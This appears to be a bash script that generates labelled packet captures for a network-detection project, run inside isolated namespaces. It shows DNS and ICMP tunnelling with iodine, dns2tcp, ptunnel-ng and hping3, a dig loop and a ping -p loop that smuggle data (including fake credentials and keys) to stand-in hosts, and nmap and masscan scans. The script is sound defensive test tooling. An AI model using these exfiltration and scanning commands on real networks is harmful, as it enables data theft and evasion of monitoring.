#!/usr/bin/env bash
# Regenerates the DNS-tunnel, ICMP-tunnel and scan captures in pcaps/ with real tools, entirely
# inside two network namespaces (see netns.sh). Run as root:
#
#   pcaps/scripts/make_dns_icmp_scan.sh            # every scenario
#   pcaps/scripts/make_dns_icmp_scan.sh dns_benign scan_masscan   # only these
#
# Needs: tcpdump tshark iodine dns2tcp ptunnel-ng nmap masscan hping3 dnsutils dnsmasq-base
#        traceroute ncat curl xxd python3. Each scenario has its own home address (10.99.0.X),
# listed in dns_icmp_scan.md beside this file, so the captures can be merged.
set -euo pipefail
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=$(cd "$HERE/.." && pwd)
# shellcheck source=netns.sh
source "$HERE/netns.sh"
set +o pipefail   # the pipelines below are generators and tshark summaries

PY=/usr/bin/python3
WORK=$(mktemp -d /tmp/siphon-dns-icmp-scan.XXXXXX)
LOG=$WORK/log
BG_PIDS=()

cleanup() {
  set +e
  [ -n "${CAP_PID:-}" ] && kill -INT "$CAP_PID" 2>/dev/null
  kill_bg
  netns_down
  [ "${KEEP_WORK:-0}" = 1 ] && echo "work dir kept: $WORK" || rm -rf "$WORK"
}
# An address a daemon binds to explicitly (the AnyIP route already makes it local).
inet_addr() { ip -n "$NS_NET" addr add "$1/32" dev lo 2>/dev/null || true; }
stop_cap() {
  capture_stop; CAP_PID=
  kill_bg
  chown root:root "$CAP_FILE"; chmod 644 "$CAP_FILE"
  echo "--- $(basename "$CAP_FILE"): $(stat -c %s "$CAP_FILE") bytes"
  tshark -r "$CAP_FILE" -q -z io,stat,0 2>/dev/null | sed -n '/Interval/,$p' | grep -v '^=*$' || true
}
# Field histogram: tsum FILE FILTER FIELD...
tsum() {
  local f=$1 flt=$2; shift 2
  local args=(); for x in "$@"; do args+=(-e "$x"); done
  tshark -r "$f" -Y "$flt" -T fields "${args[@]}" 2>/dev/null | sort | uniq -c | sort -rn | head -15 || true
}

# ---------------------------------------------------------------- helper programs
cat >"$WORK/fakesrv.py" <<'EOF'
"""Tiny servers for the fake internet.
  fakesrv.py tcp ADDR:PORT...   accept, send a banner, close
  fakesrv.py sink ADDR:PORT[:N]...  accept, send N random bytes (default 0), read until EOF, print
                                how many bytes came (keeps its side open: ncat --recv-only
                                half-closes at once, which dns2tcpd takes as the end)
  fakesrv.py udp ADDR:PORT...   answer any datagram (DNS-shaped if port 53)
  fakesrv.py dns ADDR...        answer every DNS query on ADDR:53 with an A (or empty) answer
"""
import os, selectors, socket, struct, sys

BANNERS = {22: b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n", 21: b"220 FTP ready\r\n", 25: b"220 mx ESMTP\r\n",
           3306: b"J\x00\x00\x00\n8.0.35\x00", 80: None, 443: None, 8080: None}

def dns_answer(q, ip):
    if len(q) < 12: return None
    qid, flags, qd = struct.unpack(">HHH", q[:6])
    i = 12
    while i < len(q) and q[i] != 0: i += 1 + q[i]
    qend = i + 5
    if qend > len(q): return None
    qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
    hdr = struct.pack(">HHHHHH", qid, 0x8400 | (flags & 0x0100), 1, 1 if qtype == 1 else 0, 0, 0)
    body = q[12:qend]
    if qtype == 1:
        body += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 3600, 4) + socket.inet_aton(ip)
    return hdr + body

def main():
    mode, specs = sys.argv[1], sys.argv[2:]
    sel = selectors.DefaultSelector()
    for s in specs:
        parts = s.split(":")
        addr, port = (s, 53) if mode == "dns" else (parts[0], int(parts[1]))
        send = int(parts[2]) if len(parts) > 2 else 0
        kind = socket.SOCK_STREAM if mode in ("tcp", "sink") else socket.SOCK_DGRAM
        sock = socket.socket(socket.AF_INET, kind)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((addr, port))
        if kind == socket.SOCK_STREAM: sock.listen(64)
        sel.register(sock, selectors.EVENT_READ, (addr, port, send))
    got = {}
    while True:
        for key, _ in sel.select():
            sock, (addr, port, send) = key.fileobj, key.data
            if mode == "sink" and sock in got:
                d = b""
                try: d = sock.recv(65536)
                except OSError: pass
                if d:
                    got[sock] += len(d)
                else:
                    print("sink %s:%d got %d bytes" % (addr, port, got.pop(sock)), flush=True)
                    sel.unregister(sock); sock.close()
            elif mode == "sink":
                c, _ = sock.accept()
                got[c] = 0
                if send: c.sendall(os.urandom(send))
                sel.register(c, selectors.EVENT_READ, (addr, port, send))
            elif mode == "tcp":
                c, _ = sock.accept()
                try:
                    b = BANNERS.get(port)
                    if b is None:
                        c.settimeout(0.5)
                        try: c.recv(4096)
                        except OSError: pass
                        b = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
                    c.sendall(b)
                except OSError: pass
                c.close()
            else:
                data, peer = sock.recvfrom(4096)
                if mode == "dns" or port == 53:
                    r = dns_answer(data, "192.0.2.%d" % (1 + hash(data[12:]) % 250))
                elif port == 123:
                    r = b"\x1c\x02\x03\xe8" + b"\x00" * 44
                else:
                    r = b"ok\n"
                if r: sock.sendto(r, peer)

main()
EOF

# dnsmasq that answers every name NOERROR like an authoritative server (CAPTURES.md). Without
# local=/#/ it answers REFUSED outside the local= zones, and NXDOMAIN for a local= zone that has no
# address=/zone/ line.
# dnsmasq_auth ADDR ZONE... [-- extra dnsmasq options]
dnsmasq_auth() {
  local addr=$1; shift
  local opts=(-k -C /dev/null --no-resolv --no-hosts --no-poll --bind-interfaces
              --listen-address="$addr" --user=root --group=root
              --pid-file="$WORK/dnsmasq.$addr.pid" --cache-size=0 --log-queries
              --log-facility="$WORK/dnsmasq.$addr.log"
              --address=/#/192.0.2.80 --address=/#/2001:db8::80 --local=/#/)
  while [ $# -gt 0 ] && [ "$1" != -- ]; do opts+=(--address="/$1/192.0.2.53" --local="/$1/"); shift; done
  [ "${1:-}" = -- ] && shift
  inet_addr "$addr"
  i_bg dnsmasq "${opts[@]}" "$@"
  wait_until 10 I bash -c "ss -lun | grep -q '$addr:53 '"
}

# ================================================================ DNS
dns_iodine() { # dns_iodine FILE SRC SERVER DOMAIN TUNNET [iodine options]
  local file=$1 src=$2 srv=$3 dom=$4 net=$5; shift 5
  use_src "$src"; inet_addr "$srv"
  i_bg iodined -f -c -P s1phon-test -l "$srv" -p 53 -d dns0 "$net.1/27" "$dom"
  wait_until 10 I bash -c "ss -lun | grep -q '$srv:53 '"
  i_bg bash -c "exec ncat -lk $net.1 7000 --recv-only >/dev/null"
  i_bg bash -c "head -c 20000 /dev/urandom > $WORK/down.bin; ncat -lk $net.1 7001 --send-only < $WORK/down.bin"
  start_cap "$file" 0 host "$src"
  h_bg iodine -f -r -P s1phon-test -d dns0 "$@" "$srv" "$dom"
  wait_until 30 H bash -c "ip -4 addr show dns0 | grep -q '$net.'"
  sleep 2
  H ping -c 8 -i 0.5 -W 5 "$net.1" >>"$LOG" || true
  head -c 20000 /dev/urandom | H timeout 40 ncat --send-only "$net.1" 7000 || true
  H timeout 30 ncat --recv-only "$net.1" 7001 </dev/null >/dev/null || true
  sleep 15  # idle keep-alive polls
  stop_cap
  echo "query types / first label length:"
  tsum "$OUT/$file" "dns.flags.response==0" dns.qry.type | head
  tshark -r "$OUT/$file" -Y "dns.flags.response==0" -T fields -e dns.qry.name 2>/dev/null | grep -c "$dom" | sed 's/^/queries to tunnel domain: /'
}
dns_iodine_null() { dns_iodine dns_iodine_null.pcap 10.99.0.11 203.0.113.53 t.exfil-test.net 172.30.11; }
dns_iodine_txt() { dns_iodine dns_iodine_txt.pcap 10.99.0.12 203.0.113.54 dx.evil-tunnel.co.uk 172.30.12 -T TXT; }

dns_dns2tcp() {
  local src=10.99.0.13 srv=203.0.113.55 dom=d2.tcp-relay.com
  use_src "$src"; inet_addr "$srv"
  cat >"$WORK/dns2tcpd.conf" <<EOF
listen = $srv
port = 53
user = nobody
chroot = /tmp
domain = $dom
resources = ssh:198.51.100.22:22 , data:198.51.100.81:8022
EOF
  i_bg dns2tcpd -F -d 1 -f "$WORK/dns2tcpd.conf"
  wait_until 10 I bash -c "ss -lun | grep -q '$srv:53 '"
  i_bg "$PY" "$WORK/fakesrv.py" tcp 198.51.100.22:22
  i_bg "$PY" "$WORK/fakesrv.py" sink 198.51.100.81:8022
  start_cap dns_dns2tcp.pcap 0 host "$src"
  h_bg dns2tcpc -z "$dom" -r data -l 4444 "$srv"
  wait_until 10 H bash -c "ss -ltn | grep -q ':4444 '"
  # dns2tcpc drops the session (and unsent data) as soon as the local connection closes: feed the
  # 20 KB slowly and keep the connection open until it is through.
  head -c 20000 /dev/urandom >"$WORK/d2t.bin"
  H timeout 60 bash -c "for i in \$(seq 0 19); do dd if=$WORK/d2t.bin bs=1000 skip=\$i count=1 status=none; sleep 0.4; done; sleep 6" \
    | H timeout 60 ncat 127.0.0.1 4444 >/dev/null || true
  # list the resources, then grab the banner of the "ssh" resource
  H timeout 8 dns2tcpc -z "$dom" "$srv" >>"$LOG" 2>&1 || true
  h_bg dns2tcpc -z "$dom" -r ssh -l 4445 "$srv"
  wait_until 10 H bash -c "ss -ltn | grep -q ':4445 '"
  H timeout 8 bash -c "sleep 5 | ncat 127.0.0.1 4445" >>"$LOG" 2>&1 || true
  stop_cap
  tsum "$OUT/dns_dns2tcp.pcap" "dns.flags.response==0" dns.qry.type
  tshark -r "$OUT/dns_dns2tcp.pcap" -Y "dns.flags.response==0" -T fields -e dns.qry.name 2>/dev/null | grep -c "$dom" | sed 's/^/queries to tunnel domain: /'
}

dns_dig_loop() {
  local src=10.99.0.14 res=198.51.100.53 dom=data-sink.net
  use_src "$src"
  dnsmasq_auth "$res" "$dom"
  start_cap dns_dig_loop.pcap 0 host "$src"
  local n=0
  head -c 3000 /dev/urandom | xxd -p | fold -w 60 | while read -r c; do
    n=$((n + 1))
    H dig +short +tries=1 +time=1 @"$res" "$c.$n.exfil.$dom" TXT >/dev/null || true
  done
  stop_cap
  tsum "$OUT/dns_dig_loop.pcap" "dns" dns.flags.response dns.qry.type dns.flags.rcode
}

dns_benign() {
  local src=10.99.0.15 res=198.51.100.54
  use_src "$src"
  dnsmasq_auth "$res" -- \
    --host-record=www.google.com,192.0.2.101,2001:db8::101 --host-record=mail.example.org,192.0.2.25 \
    --mx-host=example.org,mail.example.org,10 --mx-host=gmail.com,gmail-smtp-in.l.google.com,5 \
    --txt-record=example.org,"v=spf1 mx -all" --txt-record=google.com,"v=spf1 include:_spf.google.com ~all" \
    --txt-record=_dmarc.example.org,"v=DMARC1; p=none" --cname=www.bbc.co.uk,www.bbc.net.uk \
    --ptr-record=8.8.8.8.in-addr.arpa,dns.google --ptr-record=1.1.1.1.in-addr.arpa,one.one.one.one \
    --ptr-record=101.2.0.192.in-addr.arpa,www.google.com
  local names=(www.google.com google.com fonts.gstatic.com fonts.googleapis.com www.gstatic.com
    apis.google.com accounts.google.com mail.google.com www.youtube.com i.ytimg.com
    mail.example.org www.example.org example.org www.example.com d1a2b3c4d5e6f7.cloudfront.net
    d3k9x8q2w1e0rt.cloudfront.net e1234.a.akamaiedge.net e6858.dscx.akamaiedge.net
    www.microsoft.com login.microsoftonline.com outlook.office365.com update.microsoft.com
    www.bbc.co.uk news.bbc.co.uk www.theguardian.com github.com api.github.com
    raw.githubusercontent.com avatars.githubusercontent.com www.wikipedia.org en.wikipedia.org
    upload.wikimedia.org www.amazon.com images-na.ssl-images-amazon.com s3.amazonaws.com
    www.facebook.com static.xx.fbcdn.net connect.facebook.net www.linkedin.com
    static.licdn.com cdn.jsdelivr.net cdnjs.cloudflare.com ajax.googleapis.com
    www.reddit.com www.redditstatic.com time.cloudflare.com pool.ntp.org 0.debian.pool.ntp.org
    deb.debian.org security.debian.org ocsp.digicert.com crl3.digicert.com ocsp.pki.goog
    www.apple.com gateway.icloud.com slack.com edgeapi.slack.com zoom.us www.dropbox.com
    www.netflix.com www.office.com teams.microsoft.com clients4.google.com
    safebrowsing.googleapis.com detectportal.firefox.com push.services.mozilla.com
    www.nytimes.com static01.nyt.com www.bing.com th.bing.com www.instagram.com
    scontent.cdninstagram.com www.tiktok.com www.paypal.com www.ebay.co.uk www.gov.uk
    assets.publishing.service.gov.uk www.nhs.uk login.live.com graph.microsoft.com
    www.stackoverflow.com cdn.sstatic.net docs.python.org pypi.org files.pythonhosted.org
    crates.io static.crates.io registry.npmjs.org www.npmjs.com)
  start_cap dns_benign.pcap 0 host "$src"
  local i=0 nm
  for nm in "${names[@]}"; do
    H dig +tries=1 +time=1 @"$res" "$nm" A >/dev/null || true
    H dig +tries=1 +time=1 @"$res" "$nm" AAAA >/dev/null || true
    i=$((i + 1)); [ $((i % 10)) = 0 ] && sleep 0.5
  done
  sleep 1   # the browser comes back to the usual suspects once their short TTLs run out
  for nm in "${names[@]:0:30}"; do H dig +tries=1 +time=1 @"$res" "$nm" A >/dev/null || true; done
  for nm in google.com example.org gmail.com outlook.com example.co.uk; do
    H dig +tries=1 +time=1 @"$res" "$nm" MX >/dev/null || true
    H dig +tries=1 +time=1 @"$res" "$nm" TXT >/dev/null || true
  done
  H dig +tries=1 +time=1 @"$res" _dmarc.example.org TXT >/dev/null || true
  H dig +tries=1 +time=1 @"$res" google.com NS >/dev/null || true
  H dig +tries=1 +time=1 @"$res" _sip._tls.example.org SRV >/dev/null || true
  for ip in 8.8.8.8 1.1.1.1 192.0.2.101 192.0.2.80 198.51.100.10 10.99.0.254 10.99.0.1 2001:db8::101; do
    H dig +tries=1 +time=1 @"$res" -x "$ip" >/dev/null || true
  done
  # mDNS: one-shot queries (random port) and a proper port-5353 query, to 224.0.0.251.
  for nm in printer.local nas.local raspberrypi.local; do
    H dig +tries=1 +time=1 -p 5353 @224.0.0.251 "$nm" A >/dev/null || true
  done
  H dig +tries=1 +time=1 -b "$src#5353" -p 5353 @224.0.0.251 _ipp._tcp.local PTR >/dev/null || true
  H dig +tries=1 +time=1 -b "$src#5353" -p 5353 @224.0.0.251 _googlecast._tcp.local PTR >/dev/null || true
  stop_cap
  tsum "$OUT/dns_benign.pcap" "dns.flags.response==0" dns.qry.type
  echo "mDNS queries: $(tshark -r "$OUT/dns_benign.pcap" -Y 'mdns' 2>/dev/null | wc -l)"
}

# ================================================================ ICMP
icmp_ptunnel() {
  local src=10.99.0.21 proxy=203.0.113.77 dst=198.51.100.82
  use_src "$src"; inet_addr "$proxy"
  # The proxy answers from whatever source the kernel picks: make it its own address.
  ip -n "$NS_NET" route replace "$src/32" dev "$VN" src "$proxy"
  i_bg "$PY" -u "$WORK/fakesrv.py" sink "$dst:9000:50000"   # sends 50 KB down, takes what comes up
  i_bg ptunnel-ng -r"$dst" -R9000 -v 1
  sleep 1
  start_cap icmp_ptunnel.pcap 0 host "$src"
  h_bg ptunnel-ng -p"$proxy" -l2222 -r"$dst" -R9000 -v 1
  wait_until 10 H bash -c "ss -ltn | grep -q ':2222 '"
  head -c 100000 /dev/urandom >"$WORK/ptunnel.send"
  # 10 KB every half second; hold the connection until the 50 KB download is through too.
  H timeout 60 bash -c "for i in \$(seq 0 9); do dd if=$WORK/ptunnel.send bs=10000 skip=\$i count=1 status=none; sleep 0.5; done; sleep 3" \
    | H timeout 60 ncat 127.0.0.1 2222 >"$WORK/ptunnel.recv" || true
  echo "client received $(stat -c %s "$WORK/ptunnel.recv") of 50000 bytes"
  wait_until 30 grep -q "sink $dst:9000 got" "$LOG" || true
  grep "sink $dst:9000 got" "$LOG" | sed 's/$/ (of 100000 sent through the tunnel)/' || true
  sleep 2
  stop_cap
  ip -n "$NS_NET" route del "$src/32" dev "$VN" 2>/dev/null || true
  tsum "$OUT/icmp_ptunnel.pcap" icmp ip.src icmp.type
  echo "ICMP data length histogram (top):"; tsum "$OUT/icmp_ptunnel.pcap" icmp data.len | head -6
}

icmp_ping_p() {
  local src=10.99.0.22 dst=198.51.100.23
  use_src "$src"
  printf 'db_host=10.1.4.20\ndb_user=svc_backup\ndb_pass=Summer2024!Corp\naws_access_key_id=AKIAEXAMPLE7Q2WZ3K\naws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' >"$WORK/secret.txt"
  printf 'root:$6$rounds=5000$saltsalt$Xq9cZ2m0examplehashexamplehashexample:19700:0:99999:7:::\nalice:$6$k2j3h4$anotherexamplehashvalue0123456789abcdef:19701:0:99999:7:::\n' >>"$WORK/secret.txt"
  printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleEx alice@laptop\n' >>"$WORK/secret.txt"
  printf 'vpn: user=alice.smith pass=Tr0ub4dor&3 otp-seed=JBSWY3DPEHPK3PXP gw=vpn.corp.example\nwifi: SSID=CorpNet-5G psk=correct-horse-battery-staple\n' >>"$WORK/secret.txt"
  start_cap icmp_ping_p.pcap 0 host "$src"
  xxd -p -c 16 "$WORK/secret.txt" | while read -r h; do
    H ping -c 1 -W 1 -p "$h" "$dst" >/dev/null || true
    sleep 0.2
  done
  stop_cap
  echo "echo requests: $(tshark -r "$OUT/icmp_ping_p.pcap" -Y 'icmp.type==8' 2>/dev/null | wc -l) (file $(stat -c %s "$WORK/secret.txt") bytes)"
}

icmp_hping3() {
  local src=10.99.0.23 dst=203.0.113.24
  use_src "$src"
  head -c 24000 /dev/urandom >"$WORK/hping.bin"
  start_cap icmp_hping3.pcap 0 host "$src"
  H timeout 30 hping3 --icmp -I "$VH" -a "$src" --file "$WORK/hping.bin" -d 1200 -c 20 -i u300000 "$dst" >>"$LOG" 2>&1 || true
  stop_cap
  tsum "$OUT/icmp_hping3.pcap" icmp ip.src icmp.type ip.len
}

icmp_benign() {
  local src=10.99.0.24
  use_src "$src"
  start_cap icmp_benign.pcap 0 host "$src"
  H ping -c 10 -i 0.3 203.0.113.10 >/dev/null || true
  H ping -c 10 -i 0.3 -s 1400 203.0.113.10 >/dev/null || true
  H ping -c 4 -i 0.5 198.51.100.10 >/dev/null || true
  H traceroute -n -w 1 -m 5 198.51.100.10 >>"$LOG" 2>&1 || true
  H traceroute -I -n -w 1 -m 5 203.0.113.20 >>"$LOG" 2>&1 || true
  local p
  for p in 123 161 500 1900 5060 33434 40000 51820; do
    H bash -c "echo probe > /dev/udp/198.51.100.30/$p" || true
    sleep 0.3
  done
  stop_cap
  tsum "$OUT/icmp_benign.pcap" icmp icmp.type icmp.code ip.len
}

icmp_hping3_unreach() { # a file carried in ICMP port-unreachable errors (hping3 -C 3 --file)
  local src=10.99.0.25 dst=203.0.113.25
  use_src "$src"
  head -c 12000 /dev/urandom >"$WORK/hping_unreach.bin"
  start_cap icmp_hping3_unreach.pcap 0 host "$src"
  # The quoted header names a UDP packet dst -> src; the file rides after it.
  H timeout 20 hping3 --icmp -C 3 -K 3 --icmp-ipsrc "$dst" --icmp-ipdst "$src" --icmp-ipproto 17 \
    -I "$VH" -a "$src" --file "$WORK/hping_unreach.bin" -d 1200 -c 10 -i u300000 "$dst" >>"$LOG" 2>&1 || true
  stop_cap
  tsum "$OUT/icmp_hping3_unreach.pcap" icmp ip.src icmp.type icmp.code ip.len
}

# ================================================================ scans
scan_listeners() { # common open ports on a few hosts
  i_bg "$PY" "$WORK/fakesrv.py" tcp 203.0.113.10:22 203.0.113.10:80 203.0.113.10:443 \
    203.0.113.11:22 203.0.113.11:25 203.0.113.11:3306 203.0.113.12:80 203.0.113.12:8080 \
    198.51.100.10:22 198.51.100.10:443 198.51.100.11:80 198.51.100.11:21
  sleep 0.5
}
nmap_() { H nmap -n -e "$VH" -S "$SRC" "$@" >>"$LOG" 2>&1 || true; }

scan_nmap_sS() {
  use_src 10.99.0.31; scan_listeners
  start_cap scan_nmap_sS.pcap 96 host "$SRC"
  nmap_ -sS --top-ports 100 203.0.113.10-12
  stop_cap
  echo "SYNs: $(tshark -r "$OUT/scan_nmap_sS.pcap" -Y 'tcp.flags==0x002' 2>/dev/null | wc -l), SYN-ACKs: $(tshark -r "$OUT/scan_nmap_sS.pcap" -Y 'tcp.flags==0x012' 2>/dev/null | wc -l)"
  tsum "$OUT/scan_nmap_sS.pcap" "tcp.flags==0x002" ip.dst
}
scan_nmap_sT() {
  use_src 10.99.0.32; scan_listeners
  start_cap scan_nmap_sT.pcap 96 host "$SRC"
  nmap_ -sT --top-ports 100 203.0.113.11 198.51.100.10
  stop_cap
  echo "SYNs: $(tshark -r "$OUT/scan_nmap_sT.pcap" -Y 'tcp.flags==0x002' 2>/dev/null | wc -l), SYN-ACKs: $(tshark -r "$OUT/scan_nmap_sT.pcap" -Y 'tcp.flags==0x012' 2>/dev/null | wc -l)"
  tsum "$OUT/scan_nmap_sT.pcap" "tcp.flags==0x002" ip.dst
}
scan_nmap_sn() {
  use_src 10.99.0.33
  start_cap scan_nmap_sn.pcap 96 host "$SRC"
  nmap_ -sn 198.51.100.0/24
  stop_cap
  echo "distinct destinations: $(tshark -r "$OUT/scan_nmap_sn.pcap" -Y "ip.src==$SRC" -T fields -e ip.dst 2>/dev/null | sort -u | wc -l)"
  tsum "$OUT/scan_nmap_sn.pcap" "ip.src==$SRC" ip.proto icmp.type tcp.flags tcp.dstport
}
scan_nmap_p22_sweep() {
  use_src 10.99.0.34
  i_bg "$PY" "$WORK/fakesrv.py" tcp 203.0.113.10:22 203.0.113.11:22 203.0.113.40:22 203.0.113.200:22
  sleep 0.5
  start_cap scan_nmap_p22_sweep.pcap 96 host "$SRC"
  nmap_ -sS -Pn -p 22 203.0.113.0/24
  stop_cap
  echo "SYNs to :22: $(tshark -r "$OUT/scan_nmap_p22_sweep.pcap" -Y 'tcp.flags==0x002 && tcp.dstport==22' 2>/dev/null | wc -l), distinct dsts: $(tshark -r "$OUT/scan_nmap_p22_sweep.pcap" -Y 'tcp.flags==0x002' -T fields -e ip.dst 2>/dev/null | sort -u | wc -l), SYN-ACKs: $(tshark -r "$OUT/scan_nmap_p22_sweep.pcap" -Y 'tcp.flags==0x012' 2>/dev/null | wc -l)"
}
scan_nmap_sU() {
  use_src 10.99.0.35
  i_bg "$PY" "$WORK/fakesrv.py" udp 203.0.113.12:53 203.0.113.12:123 198.51.100.11:161 198.51.100.11:53
  sleep 0.5
  start_cap scan_nmap_sU.pcap 0 host "$SRC"
  nmap_ -sU -p 53,67,68,69,111,123,135,137,138,161,162,445,500,514,520,631,1434,1900,4500,5353 203.0.113.12 198.51.100.11
  stop_cap
  tsum "$OUT/scan_nmap_sU.pcap" "udp && ip.src==$SRC" ip.dst | head -3
  tsum "$OUT/scan_nmap_sU.pcap" "icmp" icmp.type icmp.code
}
scan_masscan() {
  use_src 10.99.0.36
  i_bg "$PY" "$WORK/fakesrv.py" tcp 198.51.100.80:80 198.51.100.80:443 198.51.100.81:80 198.51.100.150:443
  sleep 0.5
  local mac; mac=$(ip -n "$NS_NET" -br link show "$VN" | awk '{print $3}')
  start_cap scan_masscan.pcap 96 host "$SRC"
  H timeout -s KILL 12 masscan 198.51.100.0/24 -p80,443 --rate 200 -e "$VH" --source-ip "$SRC" \
    --router-mac "$mac" --wait 3 >>"$LOG" 2>&1 || true
  stop_cap
  echo "SYNs: $(tshark -r "$OUT/scan_masscan.pcap" -Y "tcp.flags==0x002 && ip.src==$SRC" 2>/dev/null | wc -l), distinct dsts: $(tshark -r "$OUT/scan_masscan.pcap" -Y 'tcp.flags==0x002' -T fields -e ip.dst 2>/dev/null | sort -u | wc -l), SYN-ACKs: $(tshark -r "$OUT/scan_masscan.pcap" -Y 'tcp.flags==0x012' 2>/dev/null | wc -l)"
}
scan_outbound_sweep80() {
  use_src 10.99.0.37
  start_cap scan_outbound_sweep80.pcap 96 host "$SRC"
  local i
  for i in $(seq 100 179); do
    H curl -s -m 1 -o /dev/null "http://203.0.113.$i/" || true
  done
  stop_cap
  echo "SYNs: $(tshark -r "$OUT/scan_outbound_sweep80.pcap" -Y 'tcp.flags==0x002' 2>/dev/null | wc -l), RSTs: $(tshark -r "$OUT/scan_outbound_sweep80.pcap" -Y 'tcp.flags.reset==1' 2>/dev/null | wc -l), distinct dsts: $(tshark -r "$OUT/scan_outbound_sweep80.pcap" -Y 'tcp.flags==0x002' -T fields -e ip.dst 2>/dev/null | sort -u | wc -l)"
}
scan_inbound() {
  local atk=198.51.100.66 a
  SRC=
  for a in 10.99.0.41 10.99.0.42 10.99.0.43; do home_addr "$a"; done
  h_bg "$PY" "$WORK/fakesrv.py" tcp 10.99.0.41:22 10.99.0.42:80 10.99.0.42:443 10.99.0.43:3306
  sleep 0.5
  start_cap scan_inbound.pcap 96 host "$atk"
  I nmap -n -e "$VN" -S "$atk" -sS -p 21,22,23,25,80,443,445,3306,3389,8080 10.99.0.0/24 >>"$LOG" 2>&1 || true
  stop_cap
  echo "SYNs from $atk: $(tshark -r "$OUT/scan_inbound.pcap" -Y "tcp.flags==0x002 && ip.src==$atk" 2>/dev/null | wc -l), SYN-ACKs: $(tshark -r "$OUT/scan_inbound.pcap" -Y 'tcp.flags==0x012' 2>/dev/null | wc -l)"
  tsum "$OUT/scan_inbound.pcap" "tcp.flags==0x002" ip.dst | head -30
}
scan_benign_busy() {
  use_src 10.99.0.38
  mkdir -p "$WORK/www"; head -c 3000 /dev/urandom | base64 >"$WORK/www/index.html"
  local s
  for s in 198.51.100.90 198.51.100.91 203.0.113.92 203.0.113.93; do
    i_bg "$PY" -m http.server 80 --bind "$s" --directory "$WORK/www"
  done
  wait_until 10 I bash -c "ss -ltn | grep -q '203.0.113.93:80 '"
  start_cap scan_benign_busy.pcap 96 host "$SRC"
  local i srv=(198.51.100.90 198.51.100.91 203.0.113.92 203.0.113.93)
  for i in $(seq 0 149); do
    H curl -s -m 3 -o /dev/null "http://${srv[$((i % 4))]}/index.html?r=$i" || true
    sleep "0.$((RANDOM % 3))"
  done
  stop_cap
  echo "SYNs: $(tshark -r "$OUT/scan_benign_busy.pcap" -Y 'tcp.flags==0x002' 2>/dev/null | wc -l), HTTP 200s: $(tshark -r "$OUT/scan_benign_busy.pcap" -Y 'tcp.srcport==80 && tcp.flags==0x012' 2>/dev/null | wc -l) SYN-ACKs"
  tsum "$OUT/scan_benign_busy.pcap" "tcp.flags==0x002" ip.dst
}
scan_benign_resolver() {
  use_src 10.99.0.39
  local auth=() i
  for i in $(seq 101 160); do auth+=(198.51.100.$i); done
  i_bg "$PY" "$WORK/fakesrv.py" dns "${auth[@]}"
  wait_until 10 I bash -c "ss -lun | grep -q '198.51.100.160:53 '"
  start_cap scan_benign_resolver.pcap 0 host "$SRC"
  local zones=(example.com example.net example.org wikipedia.org github.com bbc.co.uk gov.uk
    amazon.com apple.com mozilla.org debian.org kernel.org python.org rust-lang.org cloudflare.com)
  i=0
  for a in "${auth[@]}"; do
    local z=${zones[$((i % ${#zones[@]}))]}
    H dig +norecurse +tries=1 +time=1 @"$a" "www.$z" A >/dev/null || true
    H dig +norecurse +tries=1 +time=1 @"$a" "mail$i.$z" A >/dev/null || true
    i=$((i + 1)); sleep 0.1
  done
  stop_cap
  echo "queries: $(tshark -r "$OUT/scan_benign_resolver.pcap" -Y 'dns.flags.response==0' 2>/dev/null | wc -l), answers: $(tshark -r "$OUT/scan_benign_resolver.pcap" -Y 'dns.flags.response==1' 2>/dev/null | wc -l), distinct servers: $(tshark -r "$OUT/scan_benign_resolver.pcap" -Y 'dns.flags.response==0' -T fields -e ip.dst 2>/dev/null | sort -u | wc -l)"
}

# Stealth and ACK scans: the same two listeners' hosts, one technique per capture.
scan_stealth_() { # scan_stealth_ FLAG FILE ADDR
  use_src "$3"; scan_listeners
  start_cap "$2" 96 host "$SRC"
  nmap_ "$1" --top-ports 50 203.0.113.10-11
  stop_cap
  tsum "$OUT/$2" "ip.src==$SRC" ip.proto tcp.flags icmp.type | head -6
  tsum "$OUT/$2" "ip.dst==$SRC" ip.proto tcp.flags icmp.type | head -6
}
scan_nmap_sF() { scan_stealth_ -sF scan_nmap_sF.pcap 10.99.0.44; }
scan_nmap_sN() { scan_stealth_ -sN scan_nmap_sN.pcap 10.99.0.45; }
scan_nmap_sX() { scan_stealth_ -sX scan_nmap_sX.pcap 10.99.0.46; }
scan_nmap_sA() { scan_stealth_ -sA scan_nmap_sA.pcap 10.99.0.47; }
# Dark space: 192.0.2.0/25 silently dropped (blackhole route, forwarding on), 192.0.2.128/25
# answered by the router (10.99.0.254) with ICMP host-unreachable (unreachable route). Probes
# to the dark half time out; probes to the other half are refused by a router, not the target.
dark_up() {
  ip -n "$NS_NET" route del local 192.0.2.0/24 dev lo table local 2>/dev/null || true
  I sysctl -qw net.ipv4.ip_forward=1
  # The router's unreachables have their own rate limit (5 in a burst, then 1/s).
  I sysctl -qw net.ipv4.route.error_cost=0 2>/dev/null || true
  ip -n "$NS_NET" route add blackhole 192.0.2.0/25
  ip -n "$NS_NET" route add unreachable 192.0.2.128/25
}
dark_down() {
  ip -n "$NS_NET" route del blackhole 192.0.2.0/25 2>/dev/null || true
  ip -n "$NS_NET" route del unreachable 192.0.2.128/25 2>/dev/null || true
  I sysctl -qw net.ipv4.ip_forward=0
  ip -n "$NS_NET" route add local 192.0.2.0/24 dev lo table local 2>/dev/null || true
}
scan_masscan_dark() {
  use_src 10.99.0.48; dark_up
  i_bg "$PY" "$WORK/fakesrv.py" tcp 203.0.113.60:80
  sleep 0.5
  local mac; mac=$(ip -n "$NS_NET" -br link show "$VN" | awk '{print $3}')
  start_cap scan_masscan_dark.pcap 96 host "$SRC"
  # One ordinary answered connection first, so the return path is known to be visible.
  H curl -s -m 2 -o /dev/null http://203.0.113.60/ || true
  H timeout -s KILL 10 masscan 192.0.2.0/25 -p23,2323 --rate 50 -e "$VH" --source-ip "$SRC" \
    --router-mac "$mac" --wait 2 >>"$LOG" 2>&1 || true
  stop_cap; dark_down
